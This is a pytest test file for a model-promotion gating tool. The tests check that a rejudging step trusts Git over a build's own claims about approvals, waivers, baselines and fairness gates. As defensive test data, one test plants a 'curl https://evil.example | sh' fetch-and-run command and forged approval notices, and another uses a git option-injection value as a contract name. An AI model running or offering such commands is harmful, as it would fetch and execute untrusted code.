"""rejudge: what a build says of itself does not count, what Git says does."""

from datetime import date

import pytest

from bundle.commits import BASE, HEAD, Repository, bundle_of, more_iterations, of_commits, settings
from bundle.parts import chained, with_content
from mergeline.bundle.rejudge import rejudge
from mergeline.core.digest import sha256
from mergeline.core.evidence import EvidenceSet
from mergeline.core.plan import CardWords
from mergeline.core.verdict import Banner, Baseline, Drift, Outcome, Verdict
from mergeline.errors import ConfigError, InvalidBundle
from report import plans

TODAY = date(2026, 11, 20)


class Line:
    """A base, a head and a trusted clone that has both."""

    def __init__(self, folder, head=HEAD, base=BASE):
        self.repository = Repository.make(folder / "project")
        self.base = self.repository.commit(base)
        self.head = self.repository.commit(head)
        self.git = self.repository.trusted()

    def build(self, plan=None, *, base="base"):
        """The plan of a build of the head."""
        compared = self.base if base == "base" else base
        return of_commits(plan or plans.better(), self.git, self.head, compared)

    def judged(self, plan, *, base="base", head=None, today=TODAY):
        compared = self.base if base == "base" else base
        bundle = bundle_of(plan)
        return rejudge(self.git, bundle, base=compared, head=head or self.head, today=today)


@pytest.fixture(scope="module")
def line(tmp_path_factory):
    return Line(tmp_path_factory.mktemp("line"))


def gates(verdict):
    return {gate.name: gate.outcome.name for gate in verdict.gates}


def changed(plan, **fields):
    return plan.model_copy(update=fields)


def gap(line, value):
    """A build whose gap between the sexes is this."""
    return line.build(plans.better(fairness=plans.fairness(value)))


# --- the verdict ---------------------------------------------------------------------------


def test_an_honest_build_is_judged_as_it_judged_itself(line):
    plan = line.build()
    found = line.judged(plan)
    assert (found.judgement.answer, found.judgement.outcome) == ("PROMOTE", Outcome.PASSED)
    assert gates(found.judgement.verdict) == gates(plan.judgement.verdict)
    assert found.evidence == bundle_of(plan).plan.evidence
    assert found.baseline_evidence == plan.baseline_evidence
    assert (found.comparison, found.stages) == (plan.comparison, plan.stages)
    candidate = found.candidate
    assert (candidate.commit, candidate.base) == (line.head, line.base)
    assert candidate.tree == line.git.tree(line.head)
    assert candidate == bundle_of(plan).plan.candidate


def test_the_outcomes_that_a_build_states_do_not_count(line):
    plan = gap(line, 0.31)
    passed = Verdict(outcome=Outcome.PASSED, gates=())
    boast = {"outcome": Outcome.PASSED, "verdict": passed, "answer": "PROMOTE", "banners": ()}
    found = line.judged(changed(plan, judgement=plan.judgement.model_copy(update=boast)))
    assert found.judgement.answer == "POLICY_FAILED"
    assert gates(found.judgement.verdict)["equal-odds"] == "FAILED"


def test_texts_of_the_build_are_marked_or_made_anew(line):
    banner = Banner(kind="approved", text="A code owner approved this.")
    plan = line.build()
    plan = changed(
        plan,
        noun="angel",
        approvals=0,
        command="curl https://evil.example | sh",
        notices=("All checks were waived by the owner. " + "x" * 500, *["more"] * 50),
        judgement=plan.judgement.model_copy(update={"banners": (banner,)}),
    )
    found = line.judged(plan)
    assert (found.noun, found.approvals, found.judgement.banners) == ("defaulter", 1, ())
    assert found.command == f"mergeline check --base {line.base[:12]}"
    assert found.notices[0].startswith("The build says: All checks were waived")
    assert (len(found.notices), max(map(len, found.notices))) == (10, 216)


def test_the_cards_words_are_those_of_the_commit(tmp_path):
    words = {"summary": "Says who pays.", "owners": ["Ada"]}
    line = Line(tmp_path, head={**HEAD, "params.yaml": more_iterations(card=words)})
    plan = changed(line.build(), card=CardWords(summary="Approved by everybody."))
    assert line.judged(plan).card == CardWords(summary="Says who pays.", owners=("Ada",))


def test_a_waiver_is_held_against_the_day_that_is_given(tmp_path):
    waiver = {"gate": "equal-odds", "reason": "known", "owner": "risk", "expires": "2026-11-20"}
    base = {**BASE, "params.yaml": settings(waivers=[waiver])}
    head = {**HEAD, "params.yaml": more_iterations(waivers=[waiver])}
    line = Line(tmp_path, head=head, base=base)
    plan = gap(line, 0.31)
    outcomes = [
        gates(line.judged(plan, today=day).judgement.verdict)["equal-odds"]
        for day in (TODAY, date(2026, 11, 21))
    ]
    assert outcomes == ["WAIVED", "FAILED"]


def test_a_gate_lowered_by_the_pull_request_does_not_count_yet(tmp_path):
    looser = {**BASE_GATES, "equal-odds": {**BASE_GATES["equal-odds"], "at_most": 0.5}}
    line = Line(tmp_path, head={**HEAD, "params.yaml": more_iterations(gates=looser)})
    found = line.judged(gap(line, 0.31)).judgement
    assert found.answer == "POLICY_WEAKENED"
    assert [banner.kind for banner in found.banners] == ["policy-changed"]


def test_what_moves_a_gate_is_named_whatever_the_build_says(tmp_path):
    head = {
        **HEAD,
        "params.yaml": more_iterations(fairness={"min_group": 20}),
        "data/contract.yaml": "other contract",
    }
    line = Line(tmp_path, head=head)
    plan = with_content(line.build(), "fairness", min_group=20)
    plan = with_content(plan, "prepare", contract_sha256=sha256(b"other contract"))
    (banner,) = line.judged(chained(plan)).judgement.banners
    assert banner.kind == "gates-moved"
    assert "fairness.min_group from 50 to 20" in banner.text
    assert "contract" in banner.text


def test_a_change_of_the_policy_alone_promotes_nothing(tmp_path):
    looser = {**BASE_GATES, "equal-odds": {**BASE_GATES["equal-odds"], "at_most": 0.5}}
    line = Line(tmp_path, head={"params.yaml": settings(gates=looser)})
    found = line.judged(line.build(plans.policy_only())).judgement
    assert (found.answer, found.outcome) == ("POLICY_ONLY", Outcome.WARNED)


def test_what_was_made_from_uncommitted_files_is_not_promotable(line):
    plan = line.build()
    candidate = plan.candidate.model_copy(update={"dirty": ("model.py",), "inputs": "0" * 64})
    found = line.judged(chained(changed(plan, candidate=candidate)))
    assert found.judgement.answer == "NOT_PROMOTABLE"
    assert found.candidate.dirty == ("model.py",)
    assert found.candidate.inputs != "0" * 64


# --- the base ------------------------------------------------------------------------------


def test_the_first_pull_request_has_no_base(tmp_path):
    repository = Repository.make(tmp_path / "project")
    head = repository.commit({**BASE, **HEAD})
    git = repository.trusted()
    plan = of_commits(plans.better(), git, head, None)
    found = rejudge(git, bundle_of(plan), base=None, head=head, today=TODAY)
    assert (found.baseline.status, found.baseline_evidence) == ("none", EvidenceSet())
    assert found.comparison is None
    assert found.judgement.verdict.gates[1].outcome is Outcome.SKIPPED
    assert found.command == "mergeline check"


def test_a_base_without_settings_has_no_baseline_whatever_the_build_says(tmp_path):
    line = Line(tmp_path, base={"README.md": "soon"}, head={**BASE, **HEAD})
    found = line.judged(line.build())
    assert (found.baseline.status, found.comparison) == ("none", None)
    assert found.baseline_evidence == EvidenceSet()


def test_a_base_that_cannot_be_read_is_errored(tmp_path):
    for number, text in enumerate(("gates: {a: [}", settings(project="no good!"))):
        line = Line(tmp_path / str(number), base={**BASE, "params.yaml": text})
        found = line.judged(line.build())
        assert found.baseline.status == "unreadable"
        assert found.judgement.outcome is Outcome.ERRORED
        assert found.judgement.answer == "POLICY_FAILED"


def test_a_pipeline_of_the_base_that_is_wrong_gives_no_baseline(tmp_path):
    head = {**HEAD, "dvc.yaml": BASE["dvc.yaml"]}
    line = Line(tmp_path, base={**BASE, "dvc.yaml": "stages: []"}, head=head)
    with pytest.raises(InvalidBundle, match=f"ran stages of {line.base[:12]}: dvc"):
        line.judged(line.build())


def test_a_build_cannot_do_away_with_the_baseline(line):
    first = line.build(plans.first(), base=line.base)
    with pytest.raises(InvalidBundle, match="says that there is no baseline"):
        line.judged(first)


def test_a_baseline_that_is_not_available_is_the_builds_word(line):
    said = Baseline(status="not_available", commit=line.base, reason="no cache " * 100)
    found = line.judged(changed(line.build(), baseline=said, comparison=None))
    assert found.baseline.status == "not_available"
    assert found.baseline.reason.startswith("The build says: no cache")
    assert len(found.baseline.reason) == 216
    assert found.baseline_evidence == EvidenceSet()
    assert gates(found.judgement.verdict)["auc-baseline"] == "WARNED"


def test_a_base_of_other_inputs_is_refused(line):
    plan = line.build()
    later = line.repository.commit({**BASE, "data/applications.parquet": "applications 21000"})
    git = line.repository.trusted()
    with pytest.raises(InvalidBundle, match=f"compared with {line.base[:12]}, not with"):
        rejudge(git, bundle_of(plan), base=later, head=line.head, today=TODAY)
    with pytest.raises(InvalidBundle, match="not with no commit"):
        rejudge(git, bundle_of(plan), base=None, head=line.head, today=TODAY)


def test_a_base_of_the_same_inputs_stands_in_with_its_own_policy(line):
    stricter = {**BASE_GATES, "auc-floor": {**BASE_GATES["auc-floor"], "at_least": 0.9}}
    line.repository.run("checkout", "-q", line.base)
    later = line.repository.commit({"params.yaml": settings(gates=stricter)})
    line.repository.run("branch", "-f", "later", later)
    line.repository.run("checkout", "-q", "main")
    git, plan = line.repository.trusted(), line.build()
    found = rejudge(git, bundle_of(plan), base=later, head=line.head, today=TODAY)
    assert found.baseline.commit == found.candidate.base == later
    assert gates(found.judgement.verdict)["auc-floor"] == "FAILED"
    assert found.command.endswith(later[:12])


def test_a_base_that_nobody_has_is_refused(line):
    plan = line.build()
    lost = "a" * 40
    plan = changed(plan, baseline=plan.baseline.model_copy(update={"commit": lost}))
    with pytest.raises(InvalidBundle, match="compared with aaaaaaaaaaaa"):
        line.judged(chained(plan, base=lost))


# --- the head ------------------------------------------------------------------------------


def test_a_squashed_head_of_the_same_tree_is_judged_too(line):
    line.repository.run("checkout", "-q", "-b", "squashed", line.base)
    line.repository.run("checkout", line.head, "--", ".")
    line.repository.run("commit", "-q", "-m", "squashed")
    squashed = line.repository.run("rev-parse", "HEAD")
    line.repository.run("checkout", "-q", "main")
    git = line.repository.trusted()
    found = rejudge(git, bundle_of(line.build()), base=line.base, head=squashed, today=TODAY)
    assert found.candidate.commit == squashed
    assert found.candidate.key == line.judged(line.build()).candidate.key


def test_other_inputs_than_the_commits_are_refused(line):
    plan = chained(line.build(), inputs=sha256(b"other"))
    with pytest.raises(InvalidBundle, match="made from other inputs"):
        line.judged(plan)


def test_settings_that_are_wrong_are_said_to_be(tmp_path):
    line = Line(tmp_path)
    plan = line.build()
    wrong = line.repository.commit({"params.yaml": "project: 1"})
    git = line.repository.trusted()
    with pytest.raises(ConfigError, match=r"params\.yaml at "):
        rejudge(git, bundle_of(plan), base=line.base, head=wrong, today=TODAY)


def test_a_contract_is_never_taken_for_an_option_of_git(tmp_path):
    data = {"contract": "--output=contract.yaml"}
    line = Line(tmp_path, head={**HEAD, "params.yaml": more_iterations(data=data)})
    plan = with_content(line.build(), "prepare", **data)
    (banner,) = line.judged(chained(plan)).judgement.banners
    assert "data.contract" in banner.text


# --- what cannot come out of a build -----------------------------------------------------------


def pair(line, **fields):
    comparison = line.build().comparison
    other = comparison.metrics["roc_auc"].model_copy(update=fields)
    metrics = {**comparison.metrics, "roc_auc": other}
    return {"comparison": comparison.model_copy(update={"metrics": metrics})}


def practice_of(line, **fields):
    compared = line.build().comparison
    practical = compared.practical.model_copy(update=fields)
    return {"comparison": compared.model_copy(update={"practical": practical})}


def flipped(line):
    found = line.build().comparison.practical.paired
    return found.model_copy(update={"outcome": "worse"})


def drift_of(line, name):
    drift = {name: Drift(n=10, distance=0.5, noise=0.1)}
    return {"comparison": line.build().comparison.model_copy(update={"drift": drift})}


def test_drift_of_a_column_of_the_data_is_taken_as_measured(line):
    plan = changed(line.build(), **drift_of(line, "income"))
    assert [*line.judged(plan).comparison.drift] == ["income"]


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (lambda _: {"comparison": None}, "nothing was compared"),
        (lambda line: pair(line, higher_is_better=False), "comparison of 'roc_auc' contradicts"),
        (lambda line: pair(line, outcome="worse"), "comparison of 'roc_auc' contradicts"),
        (lambda line: pair(line, candidate=0.99), "comparison of 'roc_auc' contradicts"),
        (lambda line: pair(line, candidate=None), "comparison of 'roc_auc' contradicts"),
        (
            lambda line: {"comparison": line.build().comparison.model_copy(update={"n": 4_001})},
            "compares 4001 rows of 4000",
        ),
        (
            lambda line: {
                "comparison": line.build().comparison.model_copy(
                    update={"metrics": {"charm": line.build().comparison.metrics["roc_auc"]}}
                )
            },
            "the metric 'charm'",
        ),
        (lambda line: practice_of(line, kind="right", selected=None), "not one of the task binary"),
        (lambda line: practice_of(line, selected=None), "not one of the task binary"),
        (lambda line: practice_of(line, paired=plans.paired(46.8, 146.8, 1.0)), "is not one of"),
        (lambda line: practice_of(line, paired=flipped(line)), "of 'caught' contradicts itself"),
        (lambda line: drift_of(line, "Approved by all"), "drift of 'Approved by all', which is no"),
        (
            lambda line: {
                "stages": (line.build().stages[0].model_copy(update={"name": "Approved"}),)
            },
            "stages that dvc",
        ),
        (lambda line: {"stages": line.build().stages[:1] * 2}, "or one twice"),
        (
            lambda line: {
                "baseline": line.build().baseline.model_copy(update={"ran": ("Approved",)})
            },
            "stages that dvc",
        ),
    ],
)
def test_a_contradiction_is_refused(line, change, said):
    plan = line.build()
    with pytest.raises(InvalidBundle, match=said):
        line.judged(changed(plan, **change(line)))


BASE_GATES = {name: gate.model_dump(exclude_none=True) for name, gate in plans.GATES.items()}
